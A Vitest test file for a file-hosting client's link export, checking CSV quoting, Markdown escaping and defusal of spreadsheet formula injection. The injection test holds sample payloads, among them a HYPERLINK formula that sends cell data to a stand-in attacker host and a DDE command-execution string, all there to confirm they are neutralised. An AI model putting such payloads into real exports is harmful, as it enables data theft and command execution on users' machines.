import { describe, expect, it } from 'vitest'
import {
  countLinks,
  exportLinks,
  type ExportHeaders,
} from '../../../src/renderer/features/history/export-links'
import type { HistoryEntry } from '../../../src/renderer/features/history/history-entry'

const HEADERS: ExportHeaders = {
  name: 'Name',
  link: 'Link',
  removeLink: 'Removal link',
  size: 'Size (bytes)',
  finished: 'Finished',
  kind: 'Kind',
}

const at = Date.UTC(2026, 10, 27, 9, 30)
const entry = (over: Partial<HistoryEntry>): HistoryEntry => ({
  id: over.name ?? 'x',
  kind: 'download',
  name: 'plain.txt',
  size: 10,
  finishedAt: at,
  link: 'https://1fichier.com/?aaaa',
  removeLink: null,
  checksum: null,
  place: '/home/ada/Downloads',
  ...over,
})

const tricky = [
  entry({ name: 'report, final "v2".pdf', link: 'https://1fichier.com/?comma' }),
  entry({
    name: 'a|b [draft] (1).md',
    link: 'https://1fichier.com/?pipe',
    kind: 'upload',
    removeLink: 'https://1fichier.com/remove/pipe/x',
  }),
  entry({ name: 'line\nbreak.txt', link: 'https://1fichier.com/?nl' }),
  entry({ name: 'no link yet', link: null }),
]

describe('exportLinks', () => {
  it('gives one link per line as plain text, leaving out entries without one', () => {
    expect(exportLinks(tricky, 'text', HEADERS)).toBe(
      'https://1fichier.com/?comma\nhttps://1fichier.com/?pipe\nhttps://1fichier.com/?nl\n',
    )
    expect(countLinks(tricky)).toBe(3)
  })

  it('quotes CSV fields the RFC 4180 way, with CRLF line ends', () => {
    const csv = exportLinks(tricky, 'csv', HEADERS)
    const lines = csv.split('\r\n')
    expect(lines[0]).toBe('Name,Link,Removal link,Size (bytes),Finished,Kind')
    expect(lines[1]).toBe(
      '"report, final ""v2"".pdf",https://1fichier.com/?comma,,10,2026-11-27T09:30:00.000Z,download',
    )
    expect(lines[2]).toBe(
      'a|b [draft] (1).md,https://1fichier.com/?pipe,https://1fichier.com/remove/pipe/x,10,2026-11-27T09:30:00.000Z,upload',
    )
    // The line break stays inside its quoted field.
    expect(csv).toContain('"line\nbreak.txt",https://1fichier.com/?nl,')
    expect(csv.endsWith('\r\n')).toBe(true)
    expect(csv).not.toContain('no link yet')
  })

  it('makes CSV cells that a spreadsheet would run as formulas plain text (OWASP: a leading quote)', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,2)',
      '\t=1+1',
      '\r=1+1',
    ]
    const csv = exportLinks(
      hostile.map((name, index) => entry({ name, link: `https://1fichier.com/?h${index}` })),
      'csv',
      HEADERS,
    )
    const cells = csv
      .split('\r\n')
      .slice(1, -1)
      .map((line) => line.slice(0, line.indexOf(',https://')))
    expect(cells).toEqual([
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"',
      "'+1+cmd|' /C calc'!A0",
      "'-2+3",
      '"\'@SUM(1,2)"',
      "'\t=1+1",
      '"\'\r=1+1"',
    ])
    // Names that merely contain those characters, and the other formats, stay as they are.
    expect(exportLinks([entry({ name: 'a=b+c-d@e.txt' })], 'csv', HEADERS)).toContain('\r\na=b+c-d@e.txt,')
    expect(exportLinks([entry({ name: '=1+1' })], 'markdown-list', HEADERS)).toBe(
      '- [=1+1](https://1fichier.com/?aaaa)\n',
    )
  })

  it('escapes pipes in a Markdown table and adds the removal column only when needed', () => {
    const table = exportLinks(tricky, 'markdown-table', HEADERS).split('\n')
    expect(table[0]).toBe('| Name | Link | Removal link |')
    expect(table[1]).toBe('| --- | --- | --- |')
    expect(table[3]).toBe(
      '| a\\|b [draft] (1).md | https://1fichier.com/?pipe | https://1fichier.com/remove/pipe/x |',
    )
    expect(table[4]).toBe('| line break.txt | https://1fichier.com/?nl |  |')
    expect(exportLinks([tricky[0]!], 'markdown-table', HEADERS).split('\n')[0]).toBe('| Name | Link |')
  })

  it('escapes brackets in the text of a Markdown list and encodes awkward link characters', () => {
    const list = exportLinks(
      [...tricky, entry({ name: 'x', link: 'https://example.org/a (b)' })],
      'markdown-list',
      HEADERS,
    )
    expect(list.split('\n')).toEqual([
      '- [report, final "v2".pdf](https://1fichier.com/?comma)',
      '- [a|b \\[draft\\] (1).md](https://1fichier.com/?pipe)',
      '- [line break.txt](https://1fichier.com/?nl)',
      '- [x](https://example.org/a%20%28b%29)',
      '',
    ])
  })

  it('exports nothing but the CSV header when no entry has a link', () => {
    expect(exportLinks([entry({ link: null })], 'text', HEADERS)).toBe('')
    expect(exportLinks([], 'csv', HEADERS)).toBe('Name,Link,Removal link,Size (bytes),Finished,Kind\r\n')
  })
})
